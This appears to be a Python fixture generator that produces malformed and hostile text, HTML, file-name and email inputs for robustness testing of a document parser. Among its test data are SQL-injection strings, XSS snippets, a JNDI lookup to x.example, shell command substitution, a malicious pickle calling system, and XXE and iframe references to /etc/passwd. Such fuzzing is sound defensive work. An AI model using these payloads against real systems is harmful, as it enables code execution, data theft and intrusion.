"""Plain text, web pages and mail that mean harm."""

from collections.abc import Iterator

LONG = 12_000
CLAUSE = "Police in Oslo arrested four people on 4 January 2022. "


def text_files() -> Iterator[tuple[str, bytes]]:
    """Name and content of each."""
    yield from _texts()
    yield from _names()
    yield from _pages()
    yield from _mails()


def _texts() -> Iterator[tuple[str, bytes]]:
    repeated = {
        "brackets": "(", "closing": ")", "quotes": "“", "straight": '"', "dashes": "-", "dots": ".", "digits": "7",
        "spaces": " ", "tabs": "\t", "newlines": "\n", "one_word": "a", "capitals": "A", "commas": ",", "ands": "and ",
        "of": "of the ", "ago": "ago ", "days": "1 January 2020 ", "ranges": "1-2-", "said": "said ", "mr": "Mr. ",
        "combining": "e\u0301\u0302\u0303", "right_to_left": "\u202e\u202d", "zero_width": "\u200b\u200d\ufeff",
        "nulls": "\x00", "escapes": "\x1b[2J\x1b]0;owned\x07", "private": "\ue000", "emoji": "👩\u200d👩",
        "and_to": "from 1 to ",
        "slashes": "1/", "percent": "%s%n", "braces": "{0}{{", "backslash": "\\", "ampersand": "&amp;", "if": "if ",
    }  # fmt: skip
    for name, sign in repeated.items():
        yield f"texts/{name}.txt", (CLAUSE + sign * (LONG // len(sign)) + CLAUSE).encode()
    yield "texts/empty.txt", b""
    yield "texts/blank.txt", b" \n\t\r\n" * 50
    yield "texts/binary.txt", bytes(range(256)) * 40
    yield "texts/not_utf8.txt", b"Talks in caf\xe9 \xff\xfe\xfd ended." * 20
    yield "texts/half_utf16.txt", CLAUSE.encode("utf-16")[:-1]
    yield "texts/utf16_without_mark.txt", (CLAUSE * 5).encode("utf-16-le")
    yield "texts/surrogates.txt", b"Talks \xed\xa0\x80\xed\xbf\xbf ended in Vienna on Tuesday."
    yield "texts/overlong.txt", b"Talks \xc0\xaf\xe0\x80\xaf ended in Vienna."
    yield "texts/one_long_line.txt", (CLAUSE * 400).encode()
    yield "texts/many_lines.txt", ("a\n" * 8_000).encode()
    yield (
        "texts/dates_that_are_none.txt",
        "\n\n".join(
            (
                "Published: 99/99/9999",
                "On 31 February 0000 and 1 January 99999 talks ended.",
                CLAUSE,
                "2022-13-45T99:99Z",
            )
        ).encode(),
    )
    yield (
        "texts/numbers.txt",
        f"Police killed {'9' * 5_000} people in Oslo. {'9,' * 3_000}000 fled. 1e999 died.".encode(),
    )
    yield (
        "texts/statements.txt",
        b"'; DROP TABLE document; --\n\n\" OR 1=1; COPY (SELECT 1) TO 'x';",
    )
    yield "texts/script.txt", b"<script>alert(1)</script> said Police in Oslo arrested <img src=x onerror=alert(1)>."
    yield "texts/template.txt", b"{{ 7*7 }} ${jndi:ldap://x.example/a} $(touch owned) `touch owned` %00 ../../owned"
    yield "texts/code.txt", b"__import__('os').system('touch owned')\ncos\nsystem\n(S'touch owned'\ntR."
    yield (
        "texts/pickle.txt",
        b"\x80\x04\x95\x1e" + bytes(7) + b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    )


def _names() -> Iterator[tuple[str, bytes]]:
    names = (
        "'; DROP TABLE document; --.txt", "-rf.txt", "$(touch owned).txt", "a\nb.txt", "x" * 250 + ".txt", "%s%n.txt",
        "CON.txt", "<b>bold<b>.txt", "a#1.txt", "a!.txt", "a.zip!x.txt", "\u202etxt.exe.txt", "*.txt", "[a].txt",
    )  # fmt: skip
    for number, name in enumerate(names):
        yield f"names/{name}", f"Police in Oslo arrested {number + 20} people on 4 January 2022.".encode()


def _pages() -> Iterator[tuple[str, bytes]]:
    body = f"<p>{CLAUSE * 3}</p>"
    pages = {
        "deep": "<div>" * 20_000 + CLAUSE,
        "deep_lists": "<ul><li>" * 5_000 + CLAUSE,
        "unclosed": "<html><body><p><b><i><table><tr><td>" * 500 + CLAUSE,
        "many_less_than": "<" * LONG,
        "long_attribute": f"<html><body><p title='{'x' * LONG}'>{CLAUSE}</p></body></html>",
        "many_attributes": "<html><body><p "
        + " ".join(f"a{n}=1" for n in range(5_000))
        + f">{CLAUSE}</p></body></html>",
        "script_alone": "<html><script>while(1){}</script></html>",
        "entities": "<html><body><p>" + "&nbsp;&#0;&#xFFFFFFFF;&#x110000;&bogus;" * 500 + body,
        "dates": "<html><head><meta property='article:published_time' content='" + "2022-" * 5_000 + f"'></head>{body}",
        "json_ld": '<html><script type="application/ld+json">' + '{"@graph":[' * 3_000 + f"</script>{body}",
        "frames": f"<html><iframe src='file:///etc/passwd'></iframe><base href='http://evil.example/'>{body}",
        "charset": f"<html><head><meta charset='utf-7'></head>{body}+ADw-script+AD4-",
        "no_charset": f"<html><head><meta charset='{'x' * 500}'></head>{body}",
        "comment": f"<html><!-- {'-' * LONG} {body}",
        "doctype": f"<!DOCTYPE html [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><html><p>&a;</p>{body}</html>",
        "nulls": f"<ht\x00ml><bo\x00dy>{body}\x00\x00</body>",
    }
    for name, page in pages.items():
        start = "" if page.lstrip().lower().startswith(("<html", "<!doctype", "<ht\x00")) else "<!DOCTYPE html><html>"
        yield f"pages/{name}.html", (start + page).encode()


def _mails() -> Iterator[tuple[str, bytes]]:
    head = "From: a@b.example\r\nTo: c@d.example\r\nSubject: Talks\r\nDate: Wed, 03 May 2023 09:30:00 +0000\r\n"
    nested = head
    for depth in range(120):
        nested += f'Content-Type: multipart/mixed; boundary="b{depth}"\r\n\r\n--b{depth}\r\n'
    mails = {
        "nested": nested + "\r\n" + CLAUSE,
        "no_boundary": head + "Content-Type: multipart/mixed\r\n\r\n" + CLAUSE,
        "boundary_of_nothing": head + 'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n' + CLAUSE,
        "bad_base64": head + "Content-Transfer-Encoding: base64\r\n\r\n%%%% not base64 ****",
        "bad_charset": head + "Content-Type: text/plain; charset=klingon\r\n\r\n" + CLAUSE,
        "long_header": head + "X-Long: " + "x" * LONG + "\r\n\r\n" + CLAUSE,
        "many_headers": head + "X-A: b\r\n" * 5_000 + "\r\n" + CLAUSE,
        "encoded_words": head + "Subject: " + "=?utf-8?B?////?= " * 1_000 + "\r\n\r\n" + CLAUSE,
        "no_body": head + "\r\n",
        "date": head.replace("Wed, 03 May 2023", "Xyz, 99 Foo 999999") + "\r\n" + CLAUSE,
    }
    for name, mail in mails.items():
        yield f"mails/{name}.eml", mail.encode()
    yield "mails/box.mbox", ("From nobody\n\n" * 2_000).encode()
